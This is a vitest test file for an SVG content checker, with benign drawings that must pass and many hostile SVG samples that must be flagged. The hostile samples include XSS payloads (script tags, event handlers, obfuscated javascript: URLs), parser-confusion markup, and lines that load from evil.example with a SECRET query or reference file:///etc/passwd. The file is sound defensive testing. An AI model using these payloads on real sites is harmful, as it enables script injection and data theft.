import { expect, test } from 'vitest'
import { drawingFault, UNSURE } from '../../../../src/inspect/content/drawing.ts'

const SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
const svg = (inner: string, more = '') => `<svg ${SVG}${more}>${inner}</svg>`
const PNG = 'data:image/png;base64,iVBORw0KGgo='

// The shapes in which public programs draw: matplotlib, Graphviz, Mermaid, Inkscape, Illustrator, draw.io, Excalidraw.
test.each([
  svg(''),
  '<svg/>',
  `\ufeff<?xml version="1.0" encoding="utf-8" standalone="no"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"\n  "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n${svg('<metadata><rdf:RDF><cc:Work><dc:date>2024</dc:date></cc:Work></rdf:RDF></metadata>')}`,
  svg(
    '<defs><style type="text/css">*{stroke-linejoin: round; stroke-linecap: butt}</style></defs>',
  ),
  svg(
    '<!-- a&#45;&gt;b --><g class="edge"><title>a&#45;&gt;b</title><a xlink:href="https://example.com/?a=1&amp;b=2"><path d="M0 0"/></a></g>',
  ),
  svg('<a href="mailto:a@b.example"/><a href="#top"/><a href="/relative"/>'),
  svg(
    '<style>#m{fill:#333}#m .l{background:url("#g")}@keyframes x{to{opacity:1}}</style><foreignObject><div xmlns="http://www.w3.org/1999/xhtml" style="display: table-cell"><span class="l"><p>A<br/>B</p></span></div></foreignObject>',
  ),
  svg(
    '<sodipodi:namedview id="base" pagecolor="#fff" inkscape:zoom="1"/><path inkscape:connector-curvature="0" style="fill:url(#linear);marker-end:url( \'#m\' )"/>',
  ),
  svg('<style><![CDATA[ .st0{fill:#fff;} ]]></style>'),
  svg(
    '<defs><style id="style2"/></defs><style >a{}</style >\r\n<s:style>b{\r\nfill:url(#g)}</s:style><text>x</text>',
  ),
  svg(`<image href="${PNG}"/><image xlink:href='${PNG}'/><use href="#a"/><use xlink:href=""/>`),
  svg(
    '<style>@font-face{font-family:"V";src:url(data:font/woff2;base64,d09G) format("woff2")}</style>',
  ),
  svg('<text x="1">url(http://a/) javascript: onload=1 &lt;script&gt; 1 &gt; 0</text>'),
  svg('<animate attributeName="opacity" values="0;1"/><style>a{scroll-behavior: smooth}</style>'),
  svg(
    '',
    ' content="&lt;mxfile host=&quot;app.diagrams.net&quot;&gt;" style="background: rgb(255, 255, 255);"',
  ),
  svg('<?xpacket begin="x"?>'),
])('draws: %s', (drawing) => {
  expect(drawingFault(drawing)).toBeUndefined()
})

test.each([
  [svg('<script>alert(1)</script>'), 'a script'],
  [svg('<SCRIPT/>'), 'a script'],
  [svg('<x:script xmlns:x="http://www.w3.org/2000/svg" href="data:,1"/>'), 'a script'],
  [svg('', ' onload="alert(1)"'), 'an event handler'],
  [svg('<g\nOnClick = "a()"/>'), 'an event handler'],
  [svg('<a xlink:href="javascript:alert(1)"/>'), 'an address that is no web address'],
  [svg('<a href="&#106;ava&#x0a;script:alert(1)"/>'), 'an address that is no web address'],
  [svg('<a href="javascript&colon;alert(1)"/>'), 'markup that parsers read in different ways'],
  [svg('<a href="javascript&#0000000000058;alert(1)"/>'), 'an address that is no web address'],
  [svg('<a href="javascript&#x000000003a;alert(1)"/>'), 'an address that is no web address'],
  [svg('<set attributeName="hre&#0000000000102;" to="#"/>'), 'an event handler'],
  // HTML knows names that XML does not, and less white space than JavaScript.
  [svg('<g style="a:url&lpar;https://a/&rpar;"/>'), 'markup that parsers read in different ways'],
  [svg('<style>&commat;import "//a";</style>'), 'markup that parsers read in different ways'],
  [svg('<g\u00a0a="x onclick=alert(1) "/>'), 'markup that parsers read in different ways'],
  [svg('<g a=\u00a0"x onclick=alert(1) "/>'), 'markup that parsers read in different ways'],
  [svg('<g\va="x onclick=alert(1) "/>'), 'markup that parsers read in different ways'],
  [svg('<a href="data:text/html,x"/>'), 'an address that is no web address'],
  // CSS takes CR LF and a form feed for one newline each, and one of them belongs to the escape before it (CSS Syntax, 3.3 and 4.3.7).
  [svg('<style>@\\69\r\nmport "https://a/";</style>'), 'something from outside'],
  [svg('<style>a{b:u\\72\r\nl(https://a/)}</style>'), 'something from outside'],
  [svg('<style>a{b:u\\72\fl(https://a/)}</style>'), 'something from outside'],
  [svg('<style>a{b:u\\72&#13;&#10;l(https://a/)}</style>'), 'something from outside'],
  [svg('<g style="a:u\\72&#13;&#10;l(https://a/)"/>'), 'something from outside'],
  // A style ends with its own name and nothing else; to HTML, where a paragraph has left the drawing, an empty one does not end.
  [svg('<style></x>@import "https://a/";</style>'), UNSURE],
  [svg('<style>a{}</g>*{background:url(https://a/)}</style>'), UNSURE],
  [svg('<style>a{}</s:style>*{background:url(https://a/)}</style>'), UNSURE],
  [svg('<p/><style/>@import "https://a/";'), UNSURE],
  [
    svg('<foreignObject><style type="text/css"/><style/>b{c:url(https://a/)}</foreignObject>'),
    UNSURE,
  ],
  [svg('<set attributeName="href" to="#"/>'), 'an event handler'],
  [svg('<animate attributeName="xlink:href" values="javascript:x"/>'), 'an event handler'],
  [svg('<animate attributeName="onclick"/>'), 'an event handler'],
  [svg('<image href="https://evil.example/p.png?d=SECRET"/>'), 'something from outside'],
  [svg('<image href="//evil.example/p"/>'), 'something from outside'],
  [svg('<image href="data:image/svg+xml,%3Csvg%3E"/>'), 'something from outside'],
  [svg('<use href="other.svg#a"/>'), 'something from outside'],
  [svg('<feImage xlink:href="file:///etc/passwd"/>'), 'something from outside'],
  [svg('<rect fill="url(https://evil.example/)"/>'), 'something from outside'],
  [svg('<rect style="fill:u\\72l(\'https://evil.example/\')"/>'), 'something from outside'],
  [svg('<style>@import "https://evil.example/a.css";</style>'), 'something from outside'],
  [
    svg('<style>@im<!-- -->port "https://evil.example/a.css";</style>'),
    'markup that parsers read in different ways',
  ],
  [svg('<style>a{b:&#117;rl(http://x)}</style>'), 'something from outside'],
  [svg('<style>a{b:image-set("http://x" 1x)}</style>'), 'something from outside'],
  [svg('<style><![CDATA[a{b:url(]]>http://x)</style>'), 'something from outside'],
  [svg('<foreignObject><iframe src="https://a"/></foreignObject>'), 'a script'],
  [svg('<foreignObject><img src="https://a"/></foreignObject>'), 'something from outside'],
  [svg('<foreignObject><img srcset="https://a 1x"/></foreignObject>'), 'something from outside'],
  [svg('<g xml:base="https://evil.example/"/>'), 'something from outside'],
  [`<?xml-stylesheet href="https://a/b.css"?>${svg('')}`, 'something from outside'],
  [
    `<!DOCTYPE svg [<!ENTITY x "<script/>">]>${svg('&x;')}`,
    'markup that parsers read in different ways',
  ],
  [
    `<!DOCTYPE svg SYSTEM "http://evil.example/x.dtd">${svg('')}`,
    'markup that parsers read in different ways',
  ],
  [
    `<?xml version="1.0" encoding="UTF-7"?>${svg('')}`,
    'markup that parsers read in different ways',
  ],
  // XML 1.0, section 2.8: a processor of 1.0 reads 1.2 as 1.0, and the encoding with it.
  [
    `<?xml version="1.2" encoding="iso-2022-jp"?>${svg('')}`,
    'markup that parsers read in different ways',
  ],
  [svg('<!--><img src=x onerror=alert(1)>-->'), 'markup that parsers read in different ways'],
  [svg('<p title="</p><script>"/>'), 'markup that parsers read in different ways'],
  [svg('<p/onclick=alert(1)>'), 'markup that parsers read in different ways'],
  [svg('<g><![CDATA[<script/>]]></g>'), 'markup that parsers read in different ways'],
  [svg('<g'), 'markup that parsers read in different ways'],
  ['<html><body/></html>', 'markup that parsers read in different ways'],
  ['text', 'markup that parsers read in different ways'],
  ['\x1f\x8b', 'markup that parsers read in different ways'],
  [`${svg('')}\0`, 'markup that parsers read in different ways'],
])('does more than draw: %s', (drawing, fault) => {
  expect(drawingFault(drawing)).toBe(fault)
})

test.each([
  ['a tag without an end', (size: number) => `<svg ${' '.repeat(size)}`],
  ['attributes without an end', (size: number) => `<svg ${'a="b" '.repeat(size / 6)}`],
  ['comments', (size: number) => svg('<!---->'.repeat(size / 7))],
  ['comments that never close', (size: number) => svg('<!--a'.repeat(size / 5))],
  ['addresses in a style', (size: number) => svg(`<style>${'url( '.repeat(size / 5)}</style>`)],
  ['spaces in an address', (size: number) => svg(`<style>url(${' '.repeat(size)}</style>`)],
  ['escapes', (size: number) => svg(`<g style="${'\\'.repeat(size)}"/>`)],
  ['references', (size: number) => svg(`<a href="${'&'.repeat(size)}"/>`)],
])('takes linear time: %s', (_title, make) => {
  const time = (size: number) => {
    const drawing = make(size)
    const start = performance.now()
    drawingFault(drawing)
    return performance.now() - start
  }
  time(10_000)
  expect(time(2_000_000)).toBeLessThan(1000)
})
